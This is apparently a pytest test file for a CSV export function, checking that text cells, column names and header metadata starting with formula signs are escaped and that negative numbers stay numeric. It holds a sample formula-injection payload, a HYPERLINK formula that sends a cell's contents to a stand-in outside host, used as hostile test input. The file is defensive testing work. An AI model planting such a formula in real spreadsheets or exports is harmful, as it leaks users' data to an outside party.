"""Exported tables in a spreadsheet: no text of a person or of a board becomes a formula, and no number changes.

The signs are those of OWASP, "CSV Injection"; a spreadsheet divides a line at commas, or at semicolons or tabs.
"""

import csv
import io
import json
import re

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from frothline.readings.export import to_csv

SIGNS = "=+-@\t\r"
FORMULA = '=HYPERLINK("http://elsewhere.example/?"&A1)'
HOSTILE = st.text(alphabet="=+-@\t\r\n,;\"'a1. ", max_size=12)


def cells(path, separator=","):
    text = path.read_bytes().decode()
    rows = csv.reader(io.StringIO(re.sub(r"\r\n?", "\n", text)), delimiter=separator)
    return [cell for row in rows for cell in row]


def is_number(text):
    return re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?", text) is not None


def formulas(path):
    return [
        cell
        for separator in ",;\t"
        for cell in cells(path, separator)
        if cell[:1] in SIGNS and cell and not is_number(cell)
    ]


@pytest.mark.parametrize("sign", SIGNS)
def test_a_text_that_begins_as_a_formula_is_a_text(tmp_path, sign):
    frame = pd.DataFrame({"title": [f"{sign}1+1", "plain", None], f"{sign}x": [-1.5, 2.0, float("nan")]})
    path = to_csv(frame, tmp_path / "a.csv")
    assert not formulas(path)
    back = pd.read_csv(path, comment="#")
    assert back["title"].tolist()[1] == "plain"
    assert back.iloc[:, 1].tolist()[:2] == [-1.5, 2.0]


def test_negative_numbers_stay_numbers_also_in_a_column_of_texts(tmp_path):
    path = to_csv(pd.DataFrame({"a": [-3.0, 1e-9], "b": ["-4", "-x"]}), tmp_path / "a.csv")
    assert pd.read_csv(path, comment="#")["a"].tolist() == [-3.0, 1e-9]
    assert [line.split(",")[1] for line in path.read_text("utf-8").splitlines()[-2:]] == ["-4", "'-x"]


def test_a_name_a_label_and_a_mark_in_the_head_are_no_formulas(tmp_path):
    frame = pd.DataFrame({"time": [0.0]})
    marks = [{"text": f"a,{FORMULA}", "time": -1.0}, {"text": f'b;"{FORMULA}"', "time": 2.0}]
    frame.attrs = {
        "name": f"run,{FORMULA}",
        "label": f'shed;"{FORMULA}"',
        "units": {f"x,{FORMULA}": "s"},
        "marks": marks,
    }
    path = to_csv(frame, tmp_path / "a.csv")
    assert not formulas(path)
    lines = dict(line[2:].split(": ", 1) for line in path.read_text("utf-8").splitlines() if line.startswith("# "))
    assert json.loads(lines["marks"]) == marks  # JSON is what it was
    assert json.loads(lines["units"]) == frame.attrs["units"]


@settings(deadline=None, max_examples=50)
@given(HOSTILE, HOSTILE, HOSTILE, HOSTILE)
def test_no_text_at_all_becomes_a_formula(tmp_path_factory, name, label, text, column):
    frame = pd.DataFrame({column: ["x"], "text": [text]}) if column != "text" else pd.DataFrame({"text": [text]})
    frame.attrs = {"name": name, "label": label, "marks": [{"text": text}]}
    path = to_csv(frame, tmp_path_factory.mktemp("t") / "a.csv")
    assert not formulas(path)
